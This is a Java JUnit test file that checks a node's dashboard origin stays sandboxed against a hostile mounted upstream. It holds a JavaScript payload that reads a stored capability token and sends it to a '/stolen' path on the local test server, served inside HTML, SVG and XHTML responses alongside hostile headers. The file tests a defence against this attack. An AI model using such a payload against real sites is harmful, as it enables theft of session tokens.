package dev.ron.node;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import dev.ron.testkit.Browser;
import dev.ron.testkit.RawClient;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.locks.LockSupport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** What a mounted upstream says on the dashboard's origin can neither run nor pass for a page. */
@Timeout(120)
final class PassageTest {
  private static final String STEAL =
      "document.title='pwned';new Image().src='@/stolen?'+sessionStorage.getItem('ron.capability')";

  private static final Map<String, String> TYPES =
      Map.of(
          "html", "text/html",
          "svg", "image/svg+xml",
          "xml", "application/xml",
          "xhtml", "application/xhtml+xml",
          "js", "text/javascript",
          "none", "");

  @TempDir private Path data;

  private final Queue<String> asked = new ConcurrentLinkedQueue<>();
  private HttpServer upstream;
  private RunningNode node;

  @BeforeEach
  void start() throws Exception {
    upstream = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    upstream.createContext("/", this::answer);
    upstream.start();
    String mount =
        "[{prefix=\"/\",upstream=\"%s\",allow_http=true,allow_private=true,methods=[\"GET\",\"POST\"]}]"
            .formatted(url());
    node =
        RunningNode.start(data.resolve("node"), Map.of("edge.mode", "live", "edge.mounts", mount));
  }

  @AfterEach
  void stop() {
    node.close();
    upstream.stop(0);
  }

  private String url() {
    return "http://127.0.0.1:" + upstream.getAddress().getPort();
  }

  /** The worst answer there can be: it sets every field that gives a page power. */
  private void answer(HttpExchange exchange) throws IOException {
    String path = exchange.getRequestURI().getPath();
    asked.add(exchange.getRequestURI().toString());
    String type = TYPES.getOrDefault(path.substring(path.lastIndexOf('.') + 1), "text/html");
    String script = STEAL.replace("@", url());
    String body =
        switch (type) {
          case "image/svg+xml" ->
              "<svg xmlns='http://www.w3.org/2000/svg'><script>" + script + "</script></svg>";
          case "text/javascript" -> script;
          default ->
              "<html xmlns='http://www.w3.org/1999/xhtml'><script>" + script + "</script></html>";
        };
    var headers = exchange.getResponseHeaders();
    if (!type.isEmpty()) {
      headers.set("Content-Type", type);
    }
    headers.set("Content-Security-Policy", "default-src * 'unsafe-inline' 'unsafe-eval'");
    headers.set("Set-Cookie", "evil=1");
    headers.set("Clear-Site-Data", "\"*\"");
    headers.set("Service-Worker-Allowed", "/");
    headers.set("Refresh", "0; url=" + url());
    headers.set("Link", "<" + url() + "/evil.css>; rel=stylesheet");
    headers.set("Location", url());
    headers.set("Ron-Page", "map");
    headers.set("Access-Control-Allow-Origin", "*");
    byte[] bytes = body.getBytes(UTF_8);
    exchange.sendResponseHeaders(200, bytes.length);
    exchange.getResponseBody().write(bytes);
    exchange.close();
  }

  @Test
  void nothingOfAnUpstreamHasPowerOverTheDashboardsOrigin() throws Exception {
    try (HttpClient client = HttpClient.newHttpClient()) {
      for (String before : List.of("/edge/evil.", "/api/edge/evil.", "/edge/map/sample/evil.")) {
        for (String ending : TYPES.keySet()) {
          isHarmless(client, HttpRequest.newBuilder(URI.create(node.admin() + before + ending)));
        }
      }
      for (String path : List.of("/edge/map/sample", "/edge/page/gl.js", "/api/edge/edge/map/x")) {
        isHarmless(
            client,
            HttpRequest.newBuilder(URI.create(node.admin() + path))
                .POST(HttpRequest.BodyPublishers.noBody()));
      }
    }
  }

  private static void isHarmless(HttpClient client, HttpRequest.Builder request) throws Exception {
    HttpResponse<String> answer =
        client.send(request.build(), HttpResponse.BodyHandlers.ofString());
    String what = answer.request().method() + " " + answer.uri();
    assertThat(answer.headers().allValues("Content-Security-Policy"))
        .as(what)
        .containsExactly("sandbox; default-src 'none'; frame-ancestors 'none'");
    assertThat(answer.headers().allValues("X-Content-Type-Options"))
        .as(what)
        .containsExactly("nosniff");
    assertThat(answer.headers().firstValue("Content-Type").orElse("none"))
        .as(what)
        .isIn("none", "application/octet-stream", "application/problem+json");
    assertThat(answer.headers().map().keySet())
        .as(what)
        .doesNotContain(
            "set-cookie", "clear-site-data", "service-worker-allowed", "refresh", "link")
        .doesNotContain("location", "ron-page", "access-control-allow-origin");
  }

  @Test
  void theMapPageIsShownByItsOwnPolicy() throws Exception {
    try (HttpClient client = HttpClient.newHttpClient()) {
      HttpRequest ask =
          HttpRequest.newBuilder(URI.create(node.admin() + "/edge/map/sample")).build();
      HttpResponse<String> page = client.send(ask, HttpResponse.BodyHandlers.ofString());
      assertThat(page.statusCode()).isEqualTo(200);
      assertThat(page.headers().firstValue("Content-Type")).contains("text/html; charset=utf-8");
      assertThat(page.headers().allValues("Content-Security-Policy"))
          .singleElement()
          .asString()
          .contains("script-src 'self'", "frame-ancestors 'self'")
          .doesNotContain("sandbox");
    }
  }

  @Test
  void inABrowserNoMountedPageReadsTheCapability() throws Exception {
    Optional<Path> program = Browser.installed();
    assumeTrue(program.isPresent(), "NOT RUN: no Chromium is installed, so no page was opened");
    String token = node.keys().adminToken();
    try (Browser browser =
        Browser.start(program.get(), Files.createDirectory(data.resolve("browser")), 900, 600)) {
      browser.open(node.admin() + "/#cap=" + token);
      browser.await("sessionStorage.getItem('ron.capability') !== null");
      for (String path : List.of("/edge/evil.html", "/api/edge/evil.svg", "/edge/evil.xhtml")) {
        // As a link in the same tab would, and as a frame; both keep the tab's storage.
        browser.evaluate(
            """
            new Promise(done => {
              const frame = document.createElement('iframe');
              frame.onload = done;
              frame.src = '%s';
              document.body.append(frame);
              fetch('%s').then(answer => answer.text()).then(done);
            })"""
                .formatted(path, path));
        browser.evaluate("location.href = '%s'".formatted(node.admin() + path));
        awaitAsked(path.replace("/api/edge", ""), 2);
        assertThat(browser.evaluate("document.title").asString()).isNotEqualTo("pwned");
        browser.open(node.admin() + "/#/overview");
        browser.await("document.title.includes('Ron')");
      }
      assertThat(asked).noneMatch(path -> path.contains("stolen"));
    }
  }

  private void awaitAsked(String path, int times) {
    long end = System.nanoTime() + 60_000_000_000L;
    while (asked.stream().filter(path::equals).count() < times) {
      assertThat(System.nanoTime()).as(path + " asked for, of " + asked).isLessThan(end);
      LockSupport.parkNanos(2_000_000);
    }
  }

  /** Characters that no parser of addresses takes are passed on, or refused, and never a bug. */
  @Test
  void anOddQueryIsPassedOn() throws Exception {
    int port = URI.create(node.admin()).getPort();
    for (String odd : List.of("{x}", "|", "^", "\"", "%", "a b", "\\", "`", "<>", "[")) {
      try (var client = new RawClient(port)) {
        String answer =
            client
                .send(
                    RawClient.http(
                        "GET /edge/packs?style=" + odd + " HTTP/1.1",
                        "Host: 127.0.0.1:" + port,
                        "Connection: close",
                        "",
                        ""))
                .answer();
        assertThat(answer).as(odd).containsPattern("^HTTP/1.1 (200|400) ");
      }
    }
  }
}
